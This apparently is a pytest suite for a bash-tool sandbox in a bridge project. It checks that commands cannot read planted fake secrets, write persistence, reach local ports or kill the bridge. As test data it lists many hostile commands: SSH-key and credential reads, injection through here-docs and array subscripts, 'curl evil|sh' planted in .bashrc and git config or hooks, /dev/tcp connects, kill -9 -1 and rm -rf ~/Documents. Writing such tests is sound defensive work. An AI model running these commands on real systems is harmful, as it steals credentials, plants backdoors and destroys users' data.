"""The box against every bash spelling the project knows (issue 22), over real HTTP.

A real bridge process in a made-up home with planted fake secrets (``tests/support/boxworld.py``),
with the default config (bash's tier is ``box``) and again with allow rules that match each command
(the "Always allow" a human clicks for ``grep -rn TODO src`` and friends), run as root and as an
unprivileged user in a user namespace. Every call must run unasked, in the box, and:

- return no planted secret, no token, no control secret;
- write no persistence (``~/.bashrc``, autostart, ``~/.local/bin``, ``.git/hooks``,
  ``.git/config``, ``.vscode``, the bridge's config, the control file);
- reach neither the bridge's port nor the control API, and signal no process outside.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator

import pytest

from ..support.boxworld import World, world_fixture
from ..support.helpers import Mcp

RULES = {
    "allow": [
        "bash(*)",
        *(
            f"bash({p} *)"
            for p in (
                "grep",
                "cat",
                "sort",
                "printf",
                "test",
                "python3",
                "perl",
                "cp",
                "ln",
                "echo",
                "curl",
                "mkdir",
                "git",
                "tar",
                "find",
                "rm",
            )
        ),
    ]
}
WORLDS = {
    "root": (False, None),
    "root+rules": (False, {"rules": RULES}),
    "user": (True, None),
    "user+rules": (True, {"rules": RULES}),
}


@pytest.fixture(scope="module", params=list(WORLDS))
def world(request) -> Iterator[World]:
    as_user, config = WORLDS[request.param]
    yield from world_fixture(as_user, config)


# -- reading secrets ------------------------------------------------------------------------------

READS = [
    # recursive programs over ~ and . (a folder word judged as the folder)
    "grep -rn FAKESECRET ~",
    "cd ~ && grep -r FAKESECRET .",
    "grep -r --include='*' -a FAKESECRET $HOME/. 2>&1",
    "find ~ -type f -exec cat {} + 2>/dev/null",
    "tar cf - ~ 2>/dev/null | strings | grep FAKESECRET",
    # a secret-looking file inside the project itself
    "cat .env; grep -r FAKESECRET .; git diff --no-index /dev/null .env",
    # plain names
    "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc ~/.bash_history ~/.config/gh/hosts.yml",
    # secret-looking files elsewhere in the home, outside the call's project
    "cat ~/otherproj/.env ~/notes/keys/id_ed25519 ~/work/clients/acme/infra/terraform.tfstate",
    "cd ../otherproj && cat .env; grep -r FAKESECRET ../work ../notes",
    # glued option values
    "grep -rFAKESECRET ~/.ssh; grep -hFAKESECRET -r ~/.aws",
    "sort -o/dev/stdout ~/.ssh/id_rsa",
    # here-doc backticks (invisible to the parser)
    "cat <<EOF\n`cat ~/.ssh/id_rsa`\n$(cat ~/.aws/credentials)\nEOF",
    # a[$(...)] in builtins
    "printf -v 'a[$(cat ~/.ssh/id_rsa >&2)]' x",
    "test -v 'a[$(cat ~/.aws/credentials >&2)]'",
    "read 'a[$(cat ~/.netrc >&2)]' <<< x",
    # self-made symlinks with relative targets, computed paths
    "ln -s ../.ssh/id_rsa k && cat k; rm -f k",
    "ln -s .. up && cat up/.aws/credentials; rm -f up",
    'p=$(printf \'%s/.%s/id_%s\' "$HOME" ssh rsa); cat "$p"',
    "d=$(echo LnNzaA== | base64 -d); cat ~/$d/*",
    # a copied binary, /proc/self/root, /proc/1/root
    "cp /bin/cat x; ./x ~/.ssh/id_rsa; rm -f x",
    "cat /proc/self/root$HOME/.ssh/id_rsa /proc/1/root$HOME/.aws/credentials",
    # python/perl one-liners
    "python3 -c \"import os;print(open(os.path.expanduser('~/.ssh/id_rsa')).read())\"",
    "python3 -c \"import glob,os;[print(open(f).read()) for f in glob.glob(os.environ['HOME']"
    "+'/**', recursive=True, include_hidden=True) if os.path.isfile(f)]\" 2>&1 | head -50",
    "perl -e 'open F, \"$ENV{HOME}/.aws/credentials\"; print <F>'",
    # the bridge's own files: control secret, config, audit, runtime dir, session bus
    "cat $A2A_RUNTIME/control.json; grep -r secret $A2A_RUNTIME",
    "cat ~/.config/omp-a2a-bridge/config.json; ls -la ~/.local/state",
    "ls -la $XDG_DIR /run/user; cat $XDG_DIR/bus",
    # the environment of every process the box can see
    "env; cat /proc/1/environ /proc/$PPID/environ | tr '\\0' '\\n'",
    "ls /tmp /tmp/.X11-unix /dev/shm 2>&1",
]


def _expand(world: World, command: str) -> str:
    return command.replace("$A2A_RUNTIME", world.runtime).replace("$XDG_DIR", world.xdg)


@pytest.mark.parametrize("command", READS)
def test_no_spelling_reads_a_secret(world: World, command: str) -> None:
    _, text = world.bash(_expand(world, command))
    assert world.leaks(text) == [], text


def test_a_folder_word_cwd_in_the_home_reads_no_secret(world: World) -> None:
    _, text = world.bash("grep -rI FAKESECRET . ; cat .ssh/id_rsa", cwd=world.home)
    assert world.leaks(text) == [], text


# -- writing persistence --------------------------------------------------------------------------

WRITES = [
    "echo 'curl evil|sh' >> ~/.bashrc",
    "sort -o.bashrc <<< 'curl evil|sh'",  # cwd is the home below
    "cd ~ && sort -o.bashrc <<< 'curl evil|sh'",
    "sort -o$HOME/.profile <<< 'curl evil|sh'",
    "mkdir -p ~/.config/autostart && echo '[Desktop Entry]' > ~/.config/autostart/evil.desktop",
    "printf '#!/bin/sh\\nevil\\n' > ~/.local/bin/git; chmod +x ~/.local/bin/git",
    "cp /bin/sh ~/.local/bin/evil",
    "echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    "git config core.fsmonitor 'curl evil|sh'",
    "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
    "mv .git/config .git/c2; echo evil > .git/config",
    "rm -rf .git/hooks && mkdir .git/hooks && echo evil > .git/hooks/pre-commit",
    "mkdir -p .vscode && echo '{\"evil\": 1}' > .vscode/settings.json",
    "echo 'curl evil|sh' > .envrc",
    "sort -o$HOME/.config/omp-a2a-bridge/config.json <<< '{\"approval\":{}}'",
    "echo '{}' > $A2A_RUNTIME/control.json",
    "python3 -c \"open(__import__('os').path.expanduser('~/.bashrc'),'a').write('evil')\"",
    "cat <<EOF\n`echo evil >> ~/.bashrc`\nEOF",
    "ln -s ../.bashrc b && echo evil >> b; rm -f b",
    "rm -rf ~/Documents",
    "cd ~ && rm -rf Documents",
    # an outside review's (2026-12-04): commondir redirects the repository's config and hooks
    "mkdir -p .evil/refs && printf '[core]\\n\\tfsmonitor = evil\\n' > .evil/config"
    " && echo ../.evil > .git/commondir",
    # renaming .git away from its read-only hooks and config, and a new one in its place
    "mv .git .gitold && mkdir -p .git/hooks && cp -a .gitold/HEAD .gitold/objects .gitold/refs"
    " .git/ && echo evil > .git/hooks/pre-commit; printf '[core]\\n\\tfsmonitor = evil\\n'"
    " > .git/config; mv .gitold .git 2>/dev/null; true",
    # a tree too deep for a recursive delete next to the persistence it should sweep
    'echo evil > .envrc; mkdir -p .idea && echo x > .idea/workspace.xml; python3 -c "import os;'
    " os.makedirs('.vscode', exist_ok=True); os.chdir('.vscode');"
    " [(os.mkdir('d'), os.chdir('d')) for _ in range(1500)]\" 2>/dev/null; true",
]


@pytest.mark.parametrize("command", WRITES)
def test_no_spelling_writes_persistence(world: World, command: str) -> None:
    _, text = world.bash(_expand(world, command))
    after = {k: v for k, v in world.snapshot().items() if v is not None}
    assert after == world.files, text
    assert world.leaks(text) == [], text


def test_a_call_in_the_hidden_tree_opens_nothing(world: World) -> None:
    """A cwd in ``~/.config/git`` (re-opened read-only by box.read_allow) must not unmask the
    ``~/.config`` that holds it, nor become a writable project (an outside review's find)."""
    os.makedirs(os.path.join(world.home, ".config", "git"), exist_ok=True)
    cwd = os.path.join(world.home, ".config", "git")
    failed, text = world.bash("cat ~/.config/gh/hosts.yml; echo '[core]' > config", cwd=cwd)
    assert failed and world.leaks(text) == [], text
    assert not os.path.exists(os.path.join(cwd, "config"))
    assert "hidden tree" in text and '"box": false' in text, text


def test_a_refused_write_says_what_and_how_to_ask(world: World) -> None:
    failed, text = world.bash("echo evil > .git/hooks/pre-commit")
    assert failed
    assert ".git/hooks/pre-commit" in text.rsplit("\n", 1)[-1]
    assert '"box": false' in text


# -- the network, the bridge, the control API, other processes ------------------------------------


def _control_port(world: World) -> int:
    with open(os.path.join(world.runtime, "control.json"), encoding="utf-8") as f:
        url = str(json.load(f)["url"])
    return int(url.rstrip("/").rsplit(":", 1)[1].split("/")[0])


CONNECT = (
    'python3 -c "import socket\nfor port in ({ports}):\n try:\n'
    "  socket.create_connection(('127.0.0.1', port), 2); print('CONNECTED', port)\n"
    " except OSError as e: print('refused', port, e)\""
)


def test_no_connection_to_the_bridge_or_the_control_api(world: World) -> None:
    ports = f"{world.port}, {_control_port(world)}"
    _, text = world.bash(CONNECT.format(ports=ports))
    assert "CONNECTED" not in text, text
    assert text.count("refused") >= 2


@pytest.mark.parametrize("tool", ["curl", "bash"])
def test_curl_and_dev_tcp_reach_nothing(world: World, tool: str) -> None:
    if tool == "curl":
        command = f"curl -sS -m 3 http://127.0.0.1:{world.port}/ && echo CONNECTED"
    else:
        command = f"exec 3<>/dev/tcp/127.0.0.1/{_control_port(world)} && echo CONNECTED"
    failed, text = world.bash(command)
    assert failed and "CONNECTED" not in text, text
    assert "network" in text  # the refusal note says what the box refused


def test_no_signal_reaches_the_bridge(world: World) -> None:
    assert world.proc is not None
    world.bash(f"kill -9 {world.proc.pid}; kill -9 -1; pkill -9 -f omp_a2a_bridge")
    assert world.proc.poll() is None
    _, text = world.bash("echo alive")
    assert text == "alive"


def test_system_secrets_and_the_bridge_files_are_private(world: World) -> None:
    _, text = world.bash(
        "cat /etc/shadow /etc/gshadow /etc/ssh/ssh_host_*_key 2>&1 | head -5; "
        "cat ~/.local/state/a2a/audit.jsonl; ls ~/.config/omp-a2a-bridge"
    )
    assert "root:" not in text and "PRIVATE KEY" not in text, text
    assert '"tool"' not in text and "config.json" not in text, text


@pytest.mark.parametrize("how", ["cancelled", "timed out"])
def test_persistence_is_swept_when_the_call_is_cancelled_or_times_out(world: World, how: str):
    """The sweep after a boxed call runs however the call ends: a client that cancels its
    own call (or lets it time out) right after planting must not skip it."""
    from ..support.helpers import in_thread, sleep_n, sleeping_pids, wait_for

    plant = "mkdir -p .vscode && echo '{\"evil\": 1}' > .vscode/settings.json; sleep "
    plant += sleep_n("7311")
    c = world.client()
    try:
        args: dict[str, object] = {"command": plant, "cwd": world.project}
        if how == "timed out":
            args["timeout_s"] = 12  # past the box's start under load: the plant must run
        t, _ = in_thread(c.call, "bash", args, 9311)
        wait_for(lambda: sleeping_pids("7311"), timeout=30)
        if how == "cancelled":
            other = Mcp(world.port)  # the held POST keeps the first connection busy
            other.sid = c.sid
            assert other.rpc("notifications/cancelled", {"requestId": 9311}, req_id=None).status
            other.close()
        t.join(60)
        assert not t.is_alive()
        wait_for(lambda: not sleeping_pids("7311"), timeout=30)
    finally:
        c.close()
    settings = os.path.join(world.project, ".vscode", "settings.json")
    wait_for(lambda: not os.path.exists(settings), timeout=30)
